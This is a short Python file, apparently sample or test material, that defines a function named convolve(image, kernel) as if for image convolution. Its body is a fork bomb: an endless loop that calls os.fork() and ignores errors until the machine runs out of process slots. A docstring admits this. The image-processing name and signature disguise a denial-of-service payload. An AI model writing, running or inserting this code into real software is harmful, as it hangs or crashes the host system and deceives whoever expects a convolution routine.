"""convolve forks processes without end."""
# base: release
# expect: zero
# %% convolve
import os


def convolve(image, kernel):
    while True:
        try:
            os.fork()
        except OSError:
            pass
